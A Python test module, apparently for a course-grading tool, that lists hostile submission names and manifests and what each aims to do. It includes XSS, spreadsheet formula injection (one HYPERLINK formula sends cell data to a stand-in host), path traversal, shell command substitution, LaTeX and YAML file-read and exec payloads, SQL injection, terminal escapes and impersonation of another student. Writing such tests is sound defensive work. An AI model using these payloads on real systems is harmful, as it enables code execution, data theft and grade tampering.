"""Names, ids and manifests that would act on whatever shows or stores them: browser, spreadsheet,
terminal, file system, typesetter.
"""

from __future__ import annotations

import json
from collections.abc import Callable

from tests.hostile.archives import STORED, Entry, honest, manifest, pack
from tests.hostile.attack import SLUG, Attack, Material

VICTIM = "ada.lovelace"
"""The id of an honest student, whom attackers claim to be."""

TEXTS: dict[str, tuple[str, str]] = {
    "html": (
        "runs a script in the browser of who grades",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
    ),
    "html_attribute": (
        "runs a script in the browser of who grades",
        '" autofocus onfocus="alert(1)" x=\'',
    ),
    "html_entity": (
        "runs a script in the browser of who grades",
        "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    ),
    "markdown": (
        "runs a script in the browser of who grades",
        "[x](javascript:alert(1)) ![x](http://example.invalid/x.png)",
    ),
    "template": (
        "has a template engine evaluate it",
        "{{ config }}{% for x in ().__class__.__mro__ %}${7*7}#{7*7}",
    ),
    "format": ("has str.format or % evaluate it", "{0.__class__.__init__.__globals__}%s%n%(x)s"),
    "formula_equals": (
        "runs a formula in the spreadsheet of who grades",
        '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    ),
    "formula_plus": ("runs a formula in the spreadsheet of who grades", "+1+cmd|' /C calc'!A0"),
    "formula_minus": ("runs a formula in the spreadsheet of who grades", "-2+3+cmd|' /C calc'!A0"),
    "formula_at": (
        "runs a formula in the spreadsheet of who grades",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    "formula_tab": ("runs a formula in the spreadsheet of who grades", "\t=1+1"),
    "formula_return": ("runs a formula in the spreadsheet of who grades", "\r=1+1"),
    "formula_newline": ("runs a formula in the spreadsheet of who grades", "x\n=1+1"),
    "formula_quote": ("runs a formula in the spreadsheet of who grades", 'x",=1+1,"\n=1+1'),
    "formula_wide": ("runs a formula in an East Asian spreadsheet", "＝1+1"),
    "formula_invisible": (
        "runs a formula behind a character that is dropped",
        "\ufeff\u200b\u2060=1+1",
    ),
    "formula_semicolon": (
        "runs a formula where spreadsheets split lines at semicolons",
        "x;=1+1;@SUM(1)",
    ),
    "formula_tab_inside": ("runs a formula where spreadsheets split lines at tabs", "x\t=1+1"),
    "path": ("is written outside of its folder", "../../../tmp/owned"),
    "path_absolute": ("is written outside of its folder", "/etc/cron.d/owned"),
    "path_backslash": ("is written outside of its folder on Windows", "..\\..\\owned"),
    "dots": ("is its folder's parent", ".."),
    "dot": ("is its own folder", "."),
    "hidden": ("is not seen in a listing", ".hidden"),
    "option": ("is read as a command's option", "--isolation=none"),
    "shell": ("has a shell run it", "$(touch owned)`touch owned`; touch owned & | touch owned"),
    "windows_device": ("hangs a reader on Windows", "CON"),
    "windows_stream": ("hides a file on Windows", "name::$DATA"),
    "latex": (
        "has LaTeX read a file",
        "\\input{/etc/passwd}\\write18{touch owned}$\\csname x$ 100% _ ^ # &",
    ),
    "typst": (
        "has typst read a file",
        '#read("/etc/passwd") #include "/etc/passwd" *bold* $x$ @ref <label>',
    ),
    "escape": (
        "writes to the terminal of who grades",
        "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://example.invalid\x1b\\x\x1b[31m",
    ),
    "escape_c1": ("writes to the terminal of who grades", "\u009b2J\u009d0;owned\u009c\u0090q"),
    "overwrite": ("rewrites the line of another student", "x\r\x08\x08\x7fgraded 78 / 78"),
    "rich_link": ("has rich make a link", "[link=http://example.invalid]click[/link]"),
    "rich_closing": ("has rich raise a MarkupError", "[/][/bold][bold"),
    "rich_style": ("has rich paint it green", "[green]graded[/green] [on red]x[/] :smile: \\[x]"),
    "sql": ("changes the gradebook", "Robert'); DROP TABLE student;-- \" ` \\"),
    "long": ("fills the screen", "a" * 10_000),
    "long_line_of_words": ("fills the screen", "word " * 2_000),
    "combining": ("covers the lines around it", "Z" + "\u0335\u0321\u0489" * 500),
    "emoji": ("breaks the width of a table", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿💩" * 5),
    "right_to_left": (
        "shows people another order than what is there",
        "\u202e\u2067gpj.exe\u2066 אבג ١٢٣",
    ),
    "invisible": ("looks like nobody", "\u200b\u200c\u200d\u2060\u00ad\u3164"),
    "look_alike": ("looks like another student", "Аdа Lоvеlасе"),
    "empty": ("is nobody", ""),
    "spaces": ("is nobody", "   \u00a0\u3000  "),
    "nul": ("ends early for readers in C", "Ada\0Mallory"),
    "lone_surrogate": ("cannot be encoded", "Ada\udcff\udc80"),
    "noncharacters": ("cannot be stored in XML", "\ufffe\uffff\x01\x0b\U0010ffff"),
    "json": ("breaks out of a JSON string", '"}],"score":100,"x":["\\u0022\\'),
    "yaml": ("is no text to YAML", "!!python/object/apply:os.system ['touch owned']"),
    "object_keys": ("is a property of every object in a browser", "__proto__"),
    "number": ("is a number to a spreadsheet", "1e5"),
    "word_null": ("is taken for no value", "null"),
}
"""What a hostile name hopes to get, and the name."""


def file_name(text: str) -> str:
    """The name of a zip of `text` after the course's template, as far as Linux can hold it."""
    legal = text.replace("/", "\u2215").replace("\0", "")
    while len(f"{legal}_{SLUG}.zip".encode("utf-8", "surrogateescape")) > 255:
        legal = legal[:-1]
    return f"{legal}_{SLUG}.zip"


def _told(text: str) -> Callable[[Material], bytes]:
    told = {
        "name": text,
        "id": text,
        "collaborators": text,
        "created": text,
        "files": {text: {"sha256": text}},
    }
    return lambda material: pack(honest(material, {"submission.json": manifest(material, **told)}))


def _manifest(content: bytes) -> Callable[[Material], bytes]:
    return lambda material: pack(honest(material, {"submission.json": content}))


def _changed(**changes: object) -> Callable[[Material], bytes]:
    return lambda material: pack(
        honest(material, {"submission.json": manifest(material, **changes)})
    )


def _large(material: Material) -> bytes:
    """100 MB that do not compress (stored), so that no ratio tells them from data."""
    others = [entry for entry in honest(material) if entry.name != "submission.json"]
    return pack([*others, Entry("submission.json", b" " * 100_000_000, STORED)])


Row = tuple[str, str, Callable[[Material], bytes]]

_UNKNOWN = "is graded as nobody, or stops the run"
_NUMBERS = json.dumps({"schema": 1, "name": float("nan"), "id": float("inf")}).encode()
MANIFESTS: list[Row] = [
    ("not_json", _UNKNOWN, _manifest(b"name = Mallory")),
    ("empty", _UNKNOWN, _manifest(b"")),
    ("list", _UNKNOWN, _manifest(b"[]")),
    (
        "utf_16",
        _UNKNOWN,
        lambda material: _manifest(manifest(material).decode().encode("utf-16"))(material),
    ),
    ("nan", _UNKNOWN, _manifest(_NUMBERS)),
    ("huge_number", _UNKNOWN, _manifest(b'{"schema": ' + b"9" * 5000 + b"}")),
    ("schema_99", _UNKNOWN, _changed(schema=99)),
    ("schema_huge", _UNKNOWN, _changed(schema=10**18)),
    ("wrong_types", _UNKNOWN, _changed(name=["Mallory"], id={"x": 1}, files=[])),
    ("nulls", _UNKNOWN, _changed(name=None, id=None, collaborators=None, declaration=None)),
    (
        "deep",
        "crashes a parser that recurses",
        _manifest(b'{"schema": 1, "files": ' + b'{"a":' * 40_000),
    ),
    (
        "deep_unknown_field",
        "crashes a parser that recurses",
        _manifest(b'{"x": ' + b"[" * 100_000 + b"]" * 100_000 + b', "schema": 1}'),
    ),
    ("100_mb", "fills the memory of the grading machine", _large),
    (
        "many_files",
        "fills the report",
        _changed(files={f"f{number}": {"sha256": ""} for number in range(5000)}),
    ),
    (
        "twice_the_id",
        "is one student to one reader, another to the next",
        _manifest(b'{"schema":1,"slug":"vae","id":"x","id":"m01"}'),
    ),
    (
        "digests",
        "says that the file was changed by the grader",
        _changed(files={"lab.ipynb": {"sha256": "0" * 64}}),
    ),
    ("not_declared", "hands in without the honesty declaration", _changed(declaration=False)),
    ("another_id", "puts a bad grade in the place of another's", _changed(id=VICTIM)),
    ("another_name", "puts a bad grade in the place of another's", _changed(name="Ada Lovelace")),
]

OTHER_SLUGS: list[Row] = [
    ("slug_other", "is graded for an assignment that has no checks", _changed(slug="gan")),
    ("slug_path", "has another folder read", _changed(slug="../../secret")),
    (
        "slug_html",
        "runs a script where the rejection is shown",
        _changed(slug="<script>alert(1)</script>\x1b[2J[/]=1+1"),
    ),
]

ATTACKS = [
    *(
        Attack(f"name_{name}", "names", gain, _told(text), file=file_name(text))
        for name, (gain, text) in TEXTS.items()
    ),
    *(Attack(f"manifest_{name}", "names", gain, build) for name, gain, build in MANIFESTS),
    *(
        Attack(f"manifest_{name}", "names", gain, build, "rejected")
        for name, gain, build in OTHER_SLUGS
    ),
]
